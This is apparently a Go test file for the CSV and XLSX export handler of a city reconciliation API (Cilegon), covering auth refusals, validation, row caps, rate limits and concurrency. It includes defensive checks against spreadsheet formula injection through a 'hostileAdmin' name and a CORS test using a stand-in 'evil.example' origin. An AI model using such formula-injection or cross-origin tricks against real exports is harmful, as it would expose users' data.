	for ref, want := range map[string]string{"V9": "'" + note, "B6": "'" + hostileAdmin.Name + " (ADMIN)"} {
		v, _ := f.GetCellValue("Temuan", ref)
		typ, _ := f.GetCellType("Temuan", ref)
		formula, _ := f.GetCellFormula("Temuan", ref)
		if v != want || typ != excelize.CellTypeInlineString || formula != "" {
			t.Errorf("XLSX %s: got %q (type %v, formula %q), want the string %q", ref, v, typ, formula, want)
		}
	}
	if bytes.Contains(w.Body.Bytes(), []byte("<f>")) {
		t.Error("the XLSX holds a formula")
	}
	// The amount next to it stays a number.
	if typ, _ := f.GetCellType("Temuan", "M9"); typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
		t.Errorf("the amount is a string")
	}
}

// TestExportRefusals: what the API refuses, the export refuses with the
// status of the code; bad parameters are named; too many rows are refused
// before they are read.
func TestExportRefusals(t *testing.T) {
	x := newExportFixture(t, graph.ExportConfig{MaxRows: 10}, graph.Config{})
	tests := []struct {
		key, path string
		status    int
		code      string
		says      []string
	}{
		{"", "/export/coverage.csv", 401, "UNAUTHENTICATED", []string{"credentials"}},
		{"nobody", "/export/apbd.xlsx?year=2024", 401, "UNAUTHENTICATED", []string{"unknown API key"}},
		{"viewer-key", "/export/discrepancies.xlsx", 403, "FORBIDDEN", []string{"OFFICER"}},
		{"officer-key", "/export/coverage.csv?areaCode=367208", 403, "FORBIDDEN", nil},
		{"officer-key", "/export/apbd.csv?year=2024", 403, "FORBIDDEN", []string{"city-wide"}},
		{"admin-key", "/export/coverage.csv?foo=1", 400, "BAD_REQUEST", []string{`"foo"`, "from, to, areaCode"}},
		{"admin-key", "/export/coverage.csv?from=2024-13", 400, "BAD_REQUEST", []string{"from", "YYYY-MM"}},
		{"admin-key", "/export/coverage.csv?from=2024-06&to=2024-01", 400, "BAD_USER_INPUT", []string{"after"}},
		{"admin-key", "/export/coverage.csv?groupBy=KECAMATAN,DISTRICT", 400, "BAD_REQUEST", []string{"groupBy", "DISTRICT"}},
		{"admin-key", "/export/coverage.csv?granularity=DAY", 400, "BAD_REQUEST", []string{"granularity"}},
		{"admin-key", "/export/coverage.csv?cityFunded=maybe", 400, "BAD_REQUEST", []string{"cityFunded"}},
		{"admin-key", "/export/coverage.csv?areaCode=36", 400, "BAD_REQUEST", []string{"areaCode"}},
		{"admin-key", "/export/coverage.csv?areaCode=367299", 400, "BAD_USER_INPUT", nil},
		{"admin-key", "/export/coverage.csv?from=2024-01&from=2024-02", 400, "BAD_REQUEST", []string{"from", "one value"}},
		{"admin-key", "/export/discrepancies.csv?kinds=UNPAID_MONTHS,NOPE", 400, "BAD_REQUEST", []string{"kinds", "NOPE"}},
		{"admin-key", "/export/discrepancy-summary.csv?period=2024", 400, "BAD_REQUEST", []string{"period"}},
		{"admin-key", "/export/discrepancies.csv?year=2024", 400, "BAD_REQUEST", []string{`"year"`}},
		{"admin-key", "/export/apbd.csv", 400, "BAD_REQUEST", []string{"year is required"}},
		{"admin-key", "/export/apbd.csv?year=twenty", 400, "BAD_REQUEST", []string{"year"}},
		{"admin-key", "/export/participants.csv", 400, "BAD_REQUEST", []string{`"participants"`, "coverage"}},
		{"admin-key", "/export/coverage.pdf", 400, "BAD_REQUEST", []string{`"pdf"`}},
		{"admin-key", "/export/coverage", 400, "BAD_REQUEST", []string{"{name}.{csv|xlsx}"}},
		{"admin-key", "/export/discrepancies.csv", 413, "EXPORT_TOO_LARGE", []string{"11 discrepancies", "cap of 10", "kinds, statuses"}},
		{"admin-key", "/export/coverage.xlsx?groupBy=KELURAHAN&granularity=MONTH", 413, "EXPORT_TOO_LARGE", []string{"coverage rows", "cap of 10"}},
	}
	for _, tc := range tests {
		w := x.get(t, tc.key, tc.path)
		var body struct {
			Errors []struct {
				Message    string
				Extensions struct{ Code string }
			}
		}
		_ = json.Unmarshal(w.Body.Bytes(), &body)
		if w.Code != tc.status || len(body.Errors) != 1 || body.Errors[0].Extensions.Code != tc.code || w.Header().Get("Cache-Control") != "no-store" ||
			w.Header().Get("Content-Disposition") != "" || w.Header().Get("Content-Type") != "application/json" {
			t.Errorf("%s as %q: got %d %v %s, want %d %s", tc.path, tc.key, w.Code, w.Header(), w.Body, tc.status, tc.code)
			continue
		}
		for _, s := range tc.says {
			if !strings.Contains(body.Errors[0].Message, s) {
				t.Errorf("%s: %q does not say %q", tc.path, body.Errors[0].Message, s)
			}
		}
		if tc.status == 401 && w.Header().Get("WWW-Authenticate") == "" {
			t.Errorf("%s: 401 without WWW-Authenticate", tc.path)
		}
	}

	// A page of another origin is refused by the API's CORS policy; the
	// server's own passes.
	for origin, want := range map[string]int{"https://evil.example": http.StatusForbidden, "http://example.com": http.StatusOK} {
		req := httptest.NewRequest(http.MethodGet, "/export/coverage.csv", nil)
		req.Header.Set("Authorization", "Bearer viewer-key")
		req.Header.Set("Origin", origin)
		w := httptest.NewRecorder()
		x.ex.ServeHTTP(w, req)
		if w.Code != want || w.Header().Get("Access-Control-Allow-Origin") != "" {
			t.Errorf("Origin %s: %d %v %s, want %d", origin, w.Code, w.Header(), w.Body, want)
		}
	}

	// Without the reconciliation the API cannot answer: 503.
	f := newFixture(t, graph.Config{})
	ex := graph.ExportHandler(f.handler, graph.ExportConfig{Logger: slog.New(slog.DiscardHandler)})
	req := httptest.NewRequest(http.MethodGet, "/export/coverage.csv", nil)
	req.Header.Set("Authorization", "Bearer viewer-key")
	w := httptest.NewRecorder()
	ex.ServeHTTP(w, req)
	if w.Code != http.StatusServiceUnavailable || !strings.Contains(w.Body.String(), `"UNAVAILABLE"`) {
		t.Errorf("without analytics: %d %s", w.Code, w.Body)
	}
}

// TestExportDiscrepancySummary: open discrepancies by kind with the rupiah
// at stake, for a viewer (the city) and an officer (its area), against
// discrepancyCounts.
func TestExportDiscrepancySummary(t *testing.T) {
	x := newExportFixture(t, graph.ExportConfig{}, graph.Config{})
	for _, format := range formats {
		for _, tc := range []struct{ key, by, area string }{
			{"viewer-key", "dashboard (VIEWER)", "Wilayah: 3672 Kota Cilegon (seluruh kota)"},
			{"officer-key", "camat-cibeber (OFFICER, wilayah 367201 Kecamatan Cibeber)", "Wilayah: 367201 Kecamatan Cibeber (wilayah pengguna)"},
		} {
			var ans struct {
				Coverage          struct{ Rollup apiRollup }
				DiscrepancyCounts struct {
					Total  int64
					ByKind []struct {
						Kind          string
						Count, Amount int64
					}
				}
			}
			x.ask(t, tc.key, `{ coverage { rollup { version asOf } } discrepancyCounts(filter: {statuses: [OPEN], severities: [HIGH, MEDIUM]}) { total byKind { kind count amount } } }`, nil, &ans)
			want := wantTable{cols: []wantCol{{"Jenis", kText}, {"Uraian jenis", kText}, {"Jumlah temuan", kNum}, {"Nilai (Rp)", kNum}}}
			var sum int64
			for _, k := range ans.DiscrepancyCounts.ByKind {
				want.rows = append(want.rows, []any{k.Kind, kindWords[k.Kind], k.Count, k.Amount})
				sum += k.Amount
			}
			want.rows = append(want.rows, []any{nil, "Jumlah", ans.DiscrepancyCounts.Total, sum})
			if len(want.rows) < 3 || sum == 0 {
				t.Fatalf("%s: the fixture's counts are too small to test: %+v", tc.key, ans)
			}
			w := x.get(t, tc.key, "/export/discrepancy-summary."+format+"?statuses=OPEN&severities=HIGH,MEDIUM")
			rep := parse(t, format, w.Body.Bytes())
			checkHead(t, w, format, "discrepancy-summary", rep, "Ringkasan temuan rekonsiliasi", ans.Coverage.Rollup, tc.by,
				"Status: terbuka", "Tingkat: tinggi, sedang", tc.area)
			check(t, format, "discrepancy-summary", rep.tables[0], want)
		}
	}
}

// TestExportWaitsOutTheRateLimit: the pages of an export count against the
// caller's rate like any request; past the first, a 429 is waited out
// (Retry-After), so the export completes, slower; a first request refused
// is answered 429 with Retry-After.
func TestExportWaitsOutTheRateLimit(t *testing.T) {
	x := newExportFixture(t, graph.ExportConfig{PageSize: 3}, graph.Config{RateLimit: graph.RateLimit{Rate: 4, Burst: 2}})
	start := time.Now()
	w := x.get(t, "admin-key", "/export/discrepancies.csv") // 4 pages, 2 tokens
	if w.Code != http.StatusOK {
		t.Fatalf("%d %s", w.Code, w.Body)
	}
	if rows := len(parseCSV(t, w.Body.Bytes()).tables[0]) - 1; rows != 11 || time.Since(start) < 400*time.Millisecond {
		t.Errorf("%d rows in %s, want 11 after waiting", rows, time.Since(start))
	}
	for range 3 {
		x.get(t, "officer-key", "/export/apbd.csv?year=2024") // 403s, each a token
	}
	w = x.get(t, "officer-key", "/export/discrepancies.csv")
	if w.Code != http.StatusTooManyRequests || w.Header().Get("Retry-After") == "" || !strings.Contains(w.Body.String(), "RATE_LIMITED") {
		t.Errorf("a caller out of tokens: %d %v %s", w.Code, w.Header(), w.Body)
	}
}

// TestExportConcurrency: one export at a time per key, MaxConcurrent per
// process; the others are answered 429 with Retry-After at once, and a slot
// is free again when its export ends.
func TestExportConcurrency(t *testing.T) {
	entered, unblock := make(chan struct{}, 4), make(chan struct{})
	api := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		entered <- struct{}{}
		<-unblock
		http.Error(w, `{"errors":[{"message":"unavailable","extensions":{"code":"UNAVAILABLE"}}]}`, http.StatusServiceUnavailable)
	})
	h := graph.ExportHandler(api, graph.ExportConfig{MaxConcurrent: 2})
	get := func(key string) *httptest.ResponseRecorder {
		r := httptest.NewRequest(http.MethodGet, "/export/apbd.csv?year=2024", nil)
		r.Header.Set("Authorization", "Bearer "+key)
		w := httptest.NewRecorder()
		h.ServeHTTP(w, r)
		return w
	}
	busy := func(w *httptest.ResponseRecorder, why string) {
		t.Helper()
		if w.Code != http.StatusTooManyRequests || w.Header().Get("Retry-After") == "" || !strings.Contains(w.Body.String(), why) {
			t.Errorf("got %d %v %s, want 429 (%s)", w.Code, w.Header(), w.Body, why)
		}
	}
	done := make(chan int, 2)
	for _, key := range []string{"a", "b"} {
		go func() { done <- get(key).Code }()
		<-entered // its export is being built
	}
	busy(get("a"), "one at a time per key")
	busy(get("c"), "building 2 exports")
	close(unblock)
	for range 2 {
		if code := <-done; code != http.StatusServiceUnavailable {
			t.Errorf("a blocked export ended with %d, want the API's 503", code)
		}
	}
	if w := get("c"); w.Code != http.StatusServiceUnavailable {
		t.Errorf("after the others ended: %d %s, want the API's 503", w.Code, w.Body)
	}
}
